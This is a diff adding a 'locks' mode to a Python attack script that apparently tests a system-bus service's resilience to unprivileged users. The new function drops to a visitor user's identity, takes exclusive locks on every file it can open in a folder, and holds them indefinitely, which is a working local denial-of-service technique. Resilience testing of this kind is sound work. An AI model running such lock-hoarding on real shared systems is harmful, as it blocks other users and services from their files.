@@ -3,10 +3,16 @@
 """A user in no group against the service as it is installed: under its unit, with its limits, on the system's bus.
 
     attack.py messages | unread | no-reply | connections  VISITOR DOMAIN
+    attack.py locks  VISITOR FOLDER
 
 Meanwhile root sets the policy of DOMAIN again and again, and must get a reply each time. Prints root's longest wait.
-Status 1: root got no reply, or the service hung up."""
+Status 1: root got no reply, or the service hung up. `locks` locks whatever VISITOR may open in FOLDER, prints how many
+files that are, and holds them until it is ended."""
+import fcntl
+import os
 import pwd
+import resource
+import signal
 import sys
 import time
 
@@ -82,7 +88,28 @@ def attack(kind, uid, root):
         client.close()
 
 
+def hold_locks(user, top):
+    limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
+    resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))
+    os.setgroups([])
+    os.setresgid(user.pw_gid, user.pw_gid, user.pw_gid)
+    os.setresuid(user.pw_uid, user.pw_uid, user.pw_uid)
+    held = 0
+    for folder, _, files in os.walk(top):
+        for name in [".", *files]:
+            for how in os.O_RDONLY, os.O_WRONLY:
+                try:
+                    fcntl.flock(os.open(os.path.join(folder, name), how | os.O_NONBLOCK), fcntl.LOCK_EX | fcntl.LOCK_NB)
+                    held += 1
+                except OSError:  # not for this user
+                    pass
+    print(held, flush=True)
+    signal.pause()
+
+
 def main():
+    if sys.argv[1] == "locks":
+        hold_locks(pwd.getpwnam(sys.argv[2]), sys.argv[3])
     kind, visitor, domain = sys.argv[1:]
     root = Root(domain)
     root.ask()
